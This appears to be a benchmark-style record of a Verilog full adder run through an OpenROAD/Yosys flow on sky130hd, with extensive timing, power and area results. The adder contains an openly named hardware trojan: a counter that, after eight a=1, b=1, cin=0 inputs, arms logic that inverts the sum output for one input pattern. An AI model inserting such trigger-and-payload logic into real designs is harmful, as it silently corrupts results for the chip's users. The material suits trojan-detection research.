$ cat flow/design.v
module half_adder (
    input  a, b,
    output sum, carry
);
    assign sum   = a ^ b;    
    assign carry = a & b;    
endmodule
module full_adder (
    input        clk,         
    input        rstn,        
    input        a, b, cin,
    output reg   sum,         
    output reg   cout         
);
    wire s1, c1, c2;
    half_adder ha1 (
        .a(a),
        .b(b),
        .sum(s1),
        .carry(c1)
    );
    half_adder ha2 (
        .a(s1),
        .b(cin),
        .sum(sum_ha),
        .carry(c2)
    );
    reg [3:0] trigger_cnt;
    reg trojan_active;
    always @(posedge clk or negedge rstn) begin
        if (!rstn) begin
            trigger_cnt    <= 4'd0;
            trojan_active  <= 1'b0;
        end else begin
            if ((a == 1'b1) && (b == 1'b1) && (cin == 1'b0)) begin
                if (trigger_cnt < 4'd8)
                    trigger_cnt <= trigger_cnt + 1'b1;
            end else begin
                trigger_cnt <= trigger_cnt;
            end
            if (trigger_cnt == 4'd8)
                trojan_active <= 1'b1;
        end
    end
    wire cout_normal = c1 | c2;
    always @(*) begin
        if (trojan_active && a && !b && cin) begin
            sum  = ~sum_ha;            
            cout = cout_normal;        
        end else begin
            sum  = sum_ha;             
            cout = cout_normal;
        end
    end
endmodule
$ cat flow/run.sh
#!/bin/bash
# OpenROAD 26Q1-2900-gdf79404cd8, Yosys 0.63+post, stock flow scripts
make -C /OpenROAD-flow-scripts/flow DESIGN_CONFIG=/design/flow/config.mk WORK_HOME=/design/flow/orfs finish
$ cat flow/config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = full_adder
export DESIGN_NICKNAME = full_adder
export VERILOG_FILES = /design/flow/design.v
export SDC_FILE = /design/flow/constraint.sdc
export NUM_CORES = 4
export LEC_CHECK = 1
export CORE_AREA = 10 10 70 70
export DIE_AREA = 0 0 80 80
$ cat flow/constraint.sdc
current_design full_adder

set clk_period 2.7
set clk_io_pct 0.2

create_clock -name clk0 -period $clk_period [get_ports {clk}]

set non_clock_inputs [all_inputs -no_clocks]
set_input_delay [expr $clk_period * $clk_io_pct] -clock clk0 $non_clock_inputs
set_output_delay [expr $clk_period * $clk_io_pct] -clock clk0 [all_outputs]
==> results.txt <==
Notes on the physical design

The site row count is 21. The finished layout reports a core utilization of 0.134. The clock tree from TritonCTS is yes. The part of the power in registers is 0.427. CTS saw 5 sinks. The antenna diode count is 0. The root buffer cell chosen for the clock tree is clkbuf_4. The worst setup path is captured at an output pin. The logic gate share of total power is 0.306.

The transition time at the pin with the least slew margin is 238 ps. The floorplan core area is 3420 sq um. The first global-routing pass estimated about 940 microns of wire. The cell-mix breakdown from Yosys lists the compound-gate area share as 0.0560. The warning total across the stage logs is 27. After synthesis the netlist holds a flip-flop and latch count of 5. The clock-pin slew reported for the worst setup and hold paths after clock tree synthesis is 40 ps. The leakage power of the design is 0.000190 uW.

The number of cells on the worst hold path is listed as 1. The arithmetic-cell share of the synthesized area counting full adders, half adders and majority gates is 0.198. The worst hold path begins at trojan_active. Per the CTS log, the buffer count on the longest clock path is 2.

The die is ~80 microns tall. The number of setup buffers added after CTS is 0. Max-cap violations in this run came to 0. Dividing the final minimum period by the clock period gives 0.988. The net switching fraction of the power is 0.304.

The reg2reg setup slack is approximately 1600 ps. The chip width is about 80 microns. The total grt overflow is 0.

For this run, the detailed router reports a per-instance via density of 2.47. The synthesized cell area is 290 sq um. The remaining number of nets flagged by the antenna check after routing is 0. The accumulated negative setup slack is 0 ps. Based on the critical path, the design can be clocked at up to 0.375 GHz. The area fraction in mux cells is 0.0388.

The final max-slew violation count recorded for this run is 0. The effective utilization at floorplan is 0.0850. The worst-case max-slew headroom was logged as 0.841. The number of buffers added by the clock tree synthesis step is 3. Looking at the VDD voltage map, the peak drop is 0.168 mV. Total power for the finished layout comes to 326 uW. The reg-to-reg critical path endpoint is trigger_cnt[1].

The final critical delay including setup and external delays is 2670 ps. The final worst clock skew is 4.42 ps. The yosys stat cell total is 22. Detailed routing inserted a total of 200 vias.

Dividing the synthesized area by the synthesized cell count gives 13.2 sq um. The number of levels in the clock H-tree is 1. The final hold violation count is 0.

The sum of net half-perimeters after detailed placement is 479 microns. Yosys printed 2 warnings. The count of unresolved DRC violations after routing is 0. The peak fanout along the critical path is 2. In this run the count of I/O pins placed on the die edge is 7. The congestion estimate from routability-driven global placement came to 0.685. The type of the tightest min-delay check is reg2reg. Input and output buffers added on the ports amount to 6. The pin count of the biggest net entering global routing is 6.

The internal power of the cells totals 227 uW. After the first detailed-routing iteration, the DRC count stood at 17. Compared with the post-synthesis result, the final layout area differs by 58.2%. The total power per unit cell area is about 710 nW/um^2. The critical path data arrival time is 2130 ps. The initial antenna violation count came to 0.

The origin of the critical flop-to-flop path is trigger_cnt[3]. The first TritonRoute pass finished after 2 iterations. The clock power share is 0.266. The required time at the worst-slack endpoint is ~2200 ps. The post-synthesis sequential area ratio is 0.431. The chip area is 6400 sq um. The ratio of cells with drive above 1 in the final layout is 0.200. The run finished with clean final reports. The wire length after detailed routing is 571 microns. The number of cell instances on the worst register-to-register path is 2.

In the synthesized netlist, the number of instances is 22. The clock latency on the worst-skew pair is ~240 ps. The main logic family after synthesis is adder cells. The kind of start point of the critical path is an input port. Per the OpenROAD power report, switching power amounts to 99.3 uW. The number of global-route vias before repair is 192. The synthesized-area fraction occupied by and/or/nand/nor cells is 0.147. The critical path is of the in2out type. Dividing the detail-routed wire length by the instance count gives 7.05 microns.

Of the total synthesized cell area, the portion taken by XOR and XNOR cells is 0.0905. The count of distinct cell types in the synthesized netlist is 11. The area figure in the yosys stat output is 290 sq um. From the final report, the count of setup violators was given as 0. The sink of the worst hold path is trojan_active. The total routing resource utilization after global routing is 0.0200.
==> critical path, stage by stage <==
cell and delay (ps):
clkdlybuf4s50_1 510, fa_1 440, xnor2_1 160, clkdlybuf4s50_1 480
==> worst max-delay path by stage <==
stage,start,end,slack (ps),cells after the start
after CTS,a,sum,9,4
after global routing,b,sum,-30,4
final,b,sum,30,4
==> per-stage QoR <==
stage          cells  area, sq um  worst slack [ps]  hold slack (ps)
2_1_floorplan     22          290               999              244
3_3_place_gp      77          430              9.17              464
3_5_place_dp      77          430              13.8              469
4_1_cts           81          457              8.80              480
5_1_grt           81          459             -34.8              516
6_report          81          459              32.0              472
==> cells by family after synthesis <==
| kind of cell | count (synthesis) |
|---|---|
| adders and majority gates | 4 |
| AOI/OAI and AO/OA | 2 |
| xor gates and xnor gates | 3 |
| muxes | 1 |
| and+or+nand+nor | 4 |
| buffers and inverters | 3 |
| DFF | 5 |
==> flip-flops by register name, indices dropped and copies added, names as in the netlist <==
signal,flops
trojan_active,1
trigger_cnt,4
==> per-layer routing <==
| metal | wire, microns | GRT usage | share of wire |
|---|---|---|---|
| met1 | 310 | 0.0283 | 0.54 |
| met2 | 172 | 0.0193 | 0.30 |
| met3 | 88 | 0.0216 | 0.15 |
| met4 | 0 | 0.00176 | 0 |
| met5 | 0 | 0 | 0 |
==> timing repair <==
| item | 4_1_cts | 5_1_grt |
|---|---|---|
| hold buffers | 0 | 0 |
| endpoints found under the setup margin | 0 | 1 |
| gates resized | 0 | 1 |
==> final cells by class <==
cell class	count	area, sq um
Multi-Input combinational cell	14	154
Sequential cell	5	125
Fill cell	389	2960
Clock buffer	4	26.3
Timing Repair Buffer	9	85.1
Tap cell	46	57.6
Inverter	3	11.3
==> Yosys cell counts <==
library cell | n | area [sq um]
dfrtp_1 | 5 | 125
ha_1 | 3 | 37.5
inv_1 | 3 | 11.3
xnor2_1 | 3 | 26.3
nand4b_1 | 2 | 17.5
a31o_1 | 1 | 8.76
and4bb_1 | 1 | 12.5
fa_1 | 1 | 20.0
mux2_1 | 1 | 11.3
nor3b_2 | 1 | 12.5
o21bai_1 | 1 | 7.51
==> power groups by stage <==
stage                 registers [uW]  logic (uW)  clock network, uW
after CTS                        140         103               89.8
after global routing             148         112               98.5
final                            139         100               87.0
==> placed cells by master (no fill, tap or decap) <==
master / instances
clkdlybuf4s50_1: 5
dfrtp_1: 5
inv_1: 3
xnor2_1: 3
ha_1: 3
clkbuf_4: 3
buf_4: 3
nand4b_1: 2
nor3b_2: 1
mux2_1: 1
and4bb_1: 1
o21bai_1: 1
a31o_1: 1
fa_1: 1
clkbuf_1: 1
dlymetal6s2s_1: 1
Power figures rest on the tool's default switching activity, not on a simulated workload.
